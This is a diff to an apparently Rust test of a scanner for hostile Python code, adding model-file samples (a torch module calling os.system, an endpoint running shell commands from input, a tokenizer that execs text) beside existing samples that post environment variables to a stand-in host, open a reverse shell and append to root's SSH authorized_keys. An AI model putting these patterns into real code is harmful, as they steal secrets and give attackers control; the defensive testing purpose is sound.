@@ -126,6 +126,9 @@ fn hostile_in_any_function() {
         "import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))",
         "import requests, os\ndef f():\n    requests.post('http://e.example', data=str(dict(os.environ)))",
         "import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('e.example', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('sh')",
+        "import os\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        os.system('true')\n        return x",
+        "import subprocess\nclass EndpointHandler:\n    def __call__(self, data):\n        subprocess.run(data['cmd'], shell=True)",
+        "from transformers import PreTrainedTokenizer\nclass T(PreTrainedTokenizer):\n    def _tokenize(self, text):\n        exec(text)",
         "def f():\n    open('/root/.ssh/authorized_keys', 'a').write('x')",
     ] {
         hostile_anywhere(text);
